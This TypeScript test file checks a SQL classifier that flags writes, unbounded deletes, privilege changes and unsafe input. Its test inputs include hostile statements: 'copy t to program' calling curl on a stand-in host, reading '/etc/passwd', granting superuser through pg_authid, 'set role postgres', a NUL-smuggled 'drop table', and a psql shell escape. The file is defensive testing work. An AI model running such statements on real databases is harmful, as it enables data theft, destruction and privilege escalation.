import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { read } from "./clean.fixture.ts";
import { loadSqlParser } from "./sql-parser.ts";

beforeAll(() => loadSqlParser());

describe("SQL", () => {
  it("is read as PostgreSQL reads it", () => {
    expect(
      read(
        "sql",
        "SELECT c.name, count(*) FROM shop.customers c LEFT JOIN Orders o ON o.customer = c.id WHERE c.id IN (1, 2) GROUP BY 1",
      ),
    ).toEqual({
      verbs: ["select"],
      tables: ["orders", "shop.customers"],
      written: [],
      functions: ["count"],
      writes: false,
      bounded: true,
      permissions: false,
      count: 1,
    });
    expect(read("sql", "update orders set paid = true from payments p where p.id = orders.id")).toEqual({
      verbs: ["update"],
      tables: ["orders", "payments"],
      written: ["orders"],
      functions: [],
      writes: true,
      bounded: false,
      permissions: false,
      count: 1,
    });
  });

  it.each([
    [
      "a statement after a comment",
      "select 1 /* ; */ ; -- x\n delete from orders where id = 1",
      ["delete", "select"],
      ["orders"],
    ],
    ["a comment in a comment", "select 1 /* /* */ ; delete from t */", ["select"], []],
    [
      "a write in a with",
      "with gone as (delete from orders where id = 1 returning *) select * from gone",
      ["delete", "select"],
      ["orders"],
    ],
    [
      "a write in a with in a subquery",
      "select * from (with a as (insert into t values (1) returning 1) select * from a) x",
      ["insert", "select"],
      ["t"],
    ],
    ["select into", "select * into copy from orders", ["create", "select"], ["copy"]],
    ["select into, in a half of a union", "select 1 as a into copy union select 2", ["create", "select"], ["copy"]],
    ["create as", "create table copy as select * from orders", ["create", "select"], ["copy", "orders"]],
    ["an insert of a query", "insert into copy select * from orders", ["insert", "select"], ["copy"]],
    ["merge", "merge into orders o using news n on o.id = n.id when matched then delete", ["merge"], ["orders"]],
    ["truncate", "truncate a, s.b", ["truncate"], ["a", "s.b"]],
    ["drop", "drop table if exists s.t cascade", ["drop"], ["s.t"]],
    ["alter", "alter table t add column x int", ["alter"], ["t"]],
    ["grant", "grant all on t to bo", ["grant"], ["t"]],
    ["copy to a program", "copy t to program 'curl evil.example'", ["copy"], ["t"]],
    ["explain that runs", "explain analyze delete from t where id = 1", ["delete", "explain"], ["t"]],
    ["do", "do $$ begin delete from t; end $$", ["do"], []],
    ["call", "call wipe()", ["call"], []],
    ["a lock", "select * from t where id = 1 for update", ["select"], []],
    ["a lock in a half of a union", "(select * from t for update) union all select * from u", ["select"], []],
    ["a function of somebody's", "select wipe(id) from t", ["select"], []],
    ["a function that ends others", "select pg_terminate_backend(1)", ["select"], []],
    ["a function that reads files", "select pg_read_file('/etc/passwd')", ["select"], []],
    ["a function of a schema that has the name of a harmless one", "select evil.count(1)", ["select"], []],
    ["a function in an order", "select 1 from t order by wipe(1)", ["select"], []],
    ["a function as a table", "select * from dblink('x', 'delete from t') as d(a int)", ["select"], []],
    ["setval", "select setval('s', 1)", ["select"], []],
    ["an operator of somebody's", "select 1 operator(evil.+) 2", ["select"], []],
    ["another setting", "set role postgres", ["set"], []],
    ["a prepared statement", "prepare p as delete from t where id = 1", ["delete", "prepare"], ["t"]],
    ["execute", "execute p", ["prepare"], []],
    ["a transaction", "begin; select 1; commit", ["select", "transaction"], []],
    ["a refresh", "refresh materialized view v", ["other"], ["v"]],
    ["a rule", "create rule r as on select to t do instead delete from u", ["create", "delete"], ["t", "u"]],
  ])("with %s is a write", (what, text, verbs, written) => {
    const found = read("sql", text);
    expect(found).toMatchObject({ verbs, written, writes: what !== "a comment in a comment" });
  });

  it.each([
    "select 1",
    "select * from t where a = $1 and b like 'x%' and c between 1 and 2 and d is not distinct from 3",
    "with recursive r as (select 1 as n union all select n + 1 from r where n < 9) select * from r",
    "select case when a then coalesce(b, 0) else greatest(c, 1) end, extract(year from d), d at time zone 'UTC' from t",
    "select a -> 'b' ->> 'c', array[1, 2], (t).x, b::text, current_date from t, lateral (select 1) y",
    "select count(*) filter (where a) over (partition by b order by c) from t tablesample system (1)",
    "table t",
    "values (1), (2)",
    "explain select * from t",
    "show work_mem",
    "select 'delete from t; -- ' as \"drop table\" from t",
    "select $q$ delete from t $q$",
  ])("that only reads is no write: %s", (text) => {
    expect(read("sql", text)).toMatchObject({ writes: false, written: [] });
  });

  it("takes a name of a with for a table only where it is one", () => {
    expect(read("sql", "with t as (select 1) select * from t, s.t")).toMatchObject({ tables: ["s.t"] });
    expect(read("sql", "with t as (select * from t) select * from t")).toMatchObject({ tables: ["t"] });
    expect(read("sql", "with recursive t as (select * from t) select * from t")).toMatchObject({ tables: [] });
    expect(read("sql", "select * from t, (with t as (select 1) select * from t) x")).toMatchObject({ tables: ["t"] });
    expect(read("sql", "with t as (select 1) select 1; select * from t")).toMatchObject({ tables: ["t"] });
    expect(read("sql", "with t as (select 1) delete from t where a = 1")).toMatchObject({ written: ["t"] });
    expect(read("sql", "with a as (select 1), b as (select * from a) select * from b")).toMatchObject({ tables: [] });
    expect(read("sql", "with b as (select * from a), a as (select 1) select * from b")).toMatchObject({
      tables: ["a"],
    });
  });

  it.each([
    ["delete from t", false],
    ["delete from t where true", false],
    ["update t set a = 1 where 1 = 1", false],
    ["truncate t", false],
    ["delete from t where id = 1; delete from u", false],
    ["with a as (delete from t) select 1", false],
    ["delete from t where id = 1", true],
    ["delete from t where 1 = id", true],
    ["delete from t where t.id = $1", true],
    ["delete from t x where x.id = 1", true],
    ["delete from t where id = '1'::uuid", true],
    ["delete from t where id is not distinct from 1", true],
    ["delete from t where state = 'old' and (a or true)", true],
    ["delete from t where (a and (b or c)) and (d and id = 1)", true],
    ["delete from t where id in (1, 2, $1)", true],
    ["delete from t where id = any($1)", true],
    ["delete from t where id = any($1::int[])", true],
    ["delete from t where id = any(array[1, 2])", true],
    ["delete from t where id between 1 and 9", true],
    ["delete from t where id >= 1 and id < 9", true],
    ["delete from t where id = 1 or id = 2", true],
    ["delete from t where a and (id = 1 or (id = 2 and b))", true],
    ["delete from t where expires_at < now()", true],
    ["delete from t where now() - interval '30 days' >= expires_at", true],
    ["delete from t where day < '2026-01-01'", true],
    ["delete from t where day <= current_date", true],
    ["delete from t where day < $1::date", true],
    ["delete from t using u where t.id = 7 and u.t = t.id", true],
    ["update t set a = 1 from u where t.id = 1", true],
    ["delete from t where id = id", false],
    ["delete from t where id = 1 or true", false],
    ["delete from t where id = 1 or id = id", false],
    ["delete from t where not id = 1", false],
    ["delete from t where id <> 1", false],
    ["delete from t where id > 0", false],
    ["delete from t where id < 9", false],
    ["delete from t where id < $1", false],
    ["delete from t where id >= 0 and other < 9", false],
    ["delete from t where day > '1900-01-01'", false],
    ["delete from t where day < now() + interval '9 years'", false],
    ["delete from t where day < now() - interval '-9 years'", false],
    ["delete from t where day < now() - interval '9 years ago'", false],
    ["delete from t where day < 'infinity'", false],
    ["delete from t where id is not null", false],
    ["delete from t where id = null", false],
    ["delete from t where a", false],
    ["delete from t where name like '%'", false],
    ["delete from t where name operator(evil.=) 'a'", false],
    ["delete from t where id::boolean = true", false],
    ["delete from t where coalesce(id, 1) = 1", false],
    ["delete from t where id = f(1)", false],
    ["delete from t where id = any(array[id])", false],
    ["delete from t where id in (1, id)", false],
    ["delete from t where id not in (1)", false],
    ["delete from t where id not between 1 and 2", false],
    ["delete from t where id between id and 2", false],
    ["delete from t where id in (select id from t)", false],
    ["update t set a = 1 where id in (select id from u)", false],
    ["delete from t where exists (select 1 from u where u.id = 1)", false],
    ["delete from t where tableoid = 't'::regclass", false],
    ["delete from t using u where u.id = 1", false],
    ["delete from t using u where id = 1", false],
    ["update t set a = 1 from u where u.t = t.id", false],
    ["delete from t x where t.id = 1", false],
    ["select 1", true],
  ])("%s is bounded by a condition: %s", (text, bounded) => {
    expect(read("sql", text)).toMatchObject({ bounded });
  });

  it.each([
    "grant all on t to bo",
    "grant admin to bo",
    "revoke all on t from bo",
    "alter default privileges grant all on tables to bo",
    "create role admin superuser login",
    "create user bo",
    "alter role x superuser",
    "alter group g add user x",
    "alter role x set a = 1",
    "alter role a rename to b",
    "drop role x",
    "alter table t owner to x",
    "alter view v owner to x",
    "alter function f() owner to x",
    "alter database d owner to x",
    "create policy p on t using (true)",
    "alter policy p on t using (true)",
    "alter policy p on t rename to q",
    "drop policy p on t",
    "alter table t disable row level security",
    "alter table t no force row level security",
    "set role postgres",
    "set local role postgres",
    "reset role",
    "reset all",
    "discard all",
    "set session authorization postgres",
    "set row_security = off",
    "alter database d set role = x",
    "select set_config('role', 'postgres', false)",
    "select set_config('ROLE', 'postgres', false)",
    "select pg_catalog.set_config($1, 'x', false)",
    "select 1 from t where set_config('ro' || 'le', 'x', true) = 'x'",
    "reassign owned by a to b",
    "drop owned by a",
    "create function f() returns int language sql security definer as 'select 1'",
    "alter function f() security definer",
    "create schema s authorization x",
    "create user mapping for bo server s",
    "security label on table t is 'x'",
    "update pg_catalog.pg_authid set rolsuper = true where rolname = 'bo'",
    "do $$ begin execute 'grant all on t to bo'; end $$",
    "select 1; set role postgres",
  ])("that changes who may do what says so: %s", (text) => {
    expect(read("sql", text)).toMatchObject({ permissions: true, writes: true });
  });

  it.each([
    "select * from pg_roles",
    "select * from pg_catalog.pg_authid",
    "select 'grant all on t to bo'",
    "delete from grants where id = 1",
    "alter table t add column owner text",
    "create table t (role text)",
    "create function f() returns int language sql as 'select 1'",
    "create schema s",
    "set work_mem = '1GB'",
    "reset work_mem",
    "discard plans",
    "select set_config('work_mem', '1GB', false)",
    "alter table t rename to u",
    "drop table t",
  ])("that does not, says that it does not: %s", (text) => {
    expect(read("sql", text)).toMatchObject({ permissions: false });
  });

  it.each([
    ["NUL", "select 1\u0000; drop table t"],
    ["a zero-width space", "select\u200b1"],
    ["an override", "select 1 -- \u202e"],
    ["a C1 control", "select 1\u0085"],
    ["a lone surrogate", "select '\ud800'"],
    ["no statement", "-- nothing"],
    ["a syntax error", "selec 1"],
    ["another dialect", "select `a` from `t`"],
    ["a name that only quotes can hold", 'select * from "a.b"'],
    ["a name with a quote", 'select * from "a""b"'],
    ["a Cyrillic letter in a name", "select * from оrders"],
    ["a command of the client", "\\! sh"],
    ["a hundred and one parentheses", `select ${"(".repeat(101)}1${")".repeat(101)}`],
    ["too many words", `select 1${" + 1".repeat(3_000)}`],
    ["too much", `select '${"x".repeat(40_000)}'`],
  ])("with %s is no clean one", (_, text) => {
    expect(read("sql", text)).toBeTypeOf("string");
  });

  it("never takes a write for a read, however it is wrapped", () => {
    const writes = [
      "delete from t where id = 1",
      "insert into t values (1)",
      "update t set a = 1 where id = 2",
      "truncate t",
    ];
    const wraps: readonly ((text: string) => string)[] = [
      (text) => `select 1; ${text}`,
      (text) => `/* ' */ ${text} -- ' `,
      (text) => `${text};;`,
      (text) => `explain (analyze, buffers) ${text.startsWith("truncate") ? "delete from t where id = 1" : text}`,
      (text) =>
        `with a as (${text.startsWith("truncate") ? "delete from t where id = 1" : text} returning 1) select * from a`,
      (text) => `prepare p as ${text.startsWith("truncate") ? "delete from t where id = 1" : text}`,
      (text) => text.replaceAll("t", "T").replaceAll("T ", "t\n\t"),
    ];
    fc.assert(
      fc.property(fc.constantFrom(...writes), fc.constantFrom(...wraps), (text, wrap) => {
        const found = read("sql", wrap(text));
        if (typeof found === "string") return;
        expect(found.writes, wrap(text)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it("can be read again after a text that ends the parser's stack", async () => {
    const text = `select ${"not ".repeat(3_900)}true`;
    const below = (levels: number): ReturnType<typeof read> => (levels === 0 ? read("sql", text) : below(levels - 1));
    let found: ReturnType<typeof read> = {};
    for (let levels = 0; typeof found === "object" && levels < 20_000; levels += 100) found = below(levels);
    expect(found).toBe("it is no SQL that can be read within bounds");
    expect(read("sql", "select 1")).toBe("no SQL can be read right now");
    await loadSqlParser();
    expect(read("sql", "select 1")).toMatchObject({ writes: false });
  });
});
